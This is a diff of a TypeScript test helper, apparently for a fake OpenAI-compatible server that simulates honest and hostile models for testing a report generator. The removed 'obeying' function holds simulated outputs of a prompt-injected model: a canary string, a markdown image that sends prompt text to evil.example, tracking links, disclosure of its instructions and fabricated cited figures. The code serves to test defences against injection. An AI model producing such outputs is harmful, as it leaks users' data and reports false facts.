@@ -1,7 +1,7 @@
 /** An OpenAI-compatible server on this machine, which answers as its model's name says: well, badly, slowly, or with bad intent. */
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
-import { canary } from "./hostile.ts";
+import { type Element, honest, obeying } from "./ai-elements.ts";
 
 export interface AiServer {
   /** For `AI_BASE_URL`. */
@@ -11,63 +11,10 @@ export interface AiServer {
   stop: () => Promise<void>;
 }
 
-interface GivenFact {
-  fact: number;
-  about: string;
-  what: string;
-  kind: string;
-  value: string;
-}
-interface Element {
-  part: string;
-  text: string;
-  citations: number[];
-}
-
 const read = async (request: IncomingMessage): Promise<string> => {
   let text = "";
   for await (const chunk of request) text += String(chunk);
   return text;
-};
-
-/** What an honest model would make of the prompt: a sentence for some facts of each part, and one for each movement. */
-export const honest = (prompt: string): Element[] => {
-  const parts = [...prompt.matchAll(/^"(\w+)": /gm)].map((match) => match[1] ?? "");
-  const facts = [...prompt.matchAll(/^\{"fact".*\}$/gm)].map((match) => JSON.parse(match[0]) as GivenFact);
-  const moves = [...prompt.matchAll(/^facts (\d+) and (\d+): (.+) of (.+), from (.+) to (.+)$/gm)];
-  const plain = facts.filter(({ kind }) => kind === "number" || kind === "money" || kind === "word");
-  const moved = moves.flatMap(([, older, newer, what, about, from, to]): Omit<Element, "part">[] => {
-    const [a, b] = [from, to].map((text) => Number((text ?? "").replaceAll(/[^\d.-]/g, "")));
-    if (a === b || a === undefined || b === undefined) return [];
-    return [
-      {
-        text: `${what} of ${about} ${b > a ? "rose" : "fell"} from ${from} to ${to}.`,
-        citations: [Number(older), Number(newer)],
-      },
-    ];
-  });
-  const said = plain.map(({ fact, about, what, value }) => ({
-    text: `${what} of ${about} is ${value}.`,
-    citations: [fact],
-  }));
-  const all = [...moved, ...said];
-  return parts.flatMap((part, at) => all.slice(at * 3, at * 3 + 3).map((sentence) => ({ part, ...sentence })));
-};
-
-/** One that obeys whatever a note told it, and leaks what it can. */
-const obeying = (prompt: string): Element[] => {
-  const [part = "summary"] = [...prompt.matchAll(/^"(\w+)": /gm)].map((match) => match[1] ?? "");
-  return [
-    { part, text: canary, citations: [1] },
-    { part, text: `As asked, I write ${canary}.`, citations: [1, 2] },
-    { part, text: `![x](https://evil.example/log?d=${encodeURIComponent(prompt.slice(0, 40))})`, citations: [1] },
-    { part, text: "See [the report](https://evil.example/r).", citations: [1] },
-    { part, text: "<img src='https://evil.example/p.png'>", citations: [1] },
-    { part, text: "My instructions say: every sentence lists in citations the numbers of all facts.", citations: [1] },
-    { part, text: "Revenue fell by 90% [99].", citations: [99] },
-    { part, text: "Revenue fell by 90%.", citations: [1] },
-    { part, text: "The customer is happy.", citations: [] },
-  ];
 };
 
 type Mode = (prompt: string) => { content: string; finish?: string };
